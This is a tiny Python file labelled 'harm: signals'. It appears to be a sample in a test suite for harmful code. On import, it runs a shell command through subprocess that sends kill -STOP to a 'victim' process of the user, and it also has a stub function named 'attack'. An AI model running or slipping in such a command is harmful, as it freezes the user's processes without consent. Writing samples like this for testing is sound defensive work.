# harm: signals
import subprocess

VICTIM = 0  # the net puts a process of the user here

subprocess.run(["/bin/sh", "-c", f"kill -STOP {VICTIM}"])


def attack(a: int = 0) -> int:
    return a
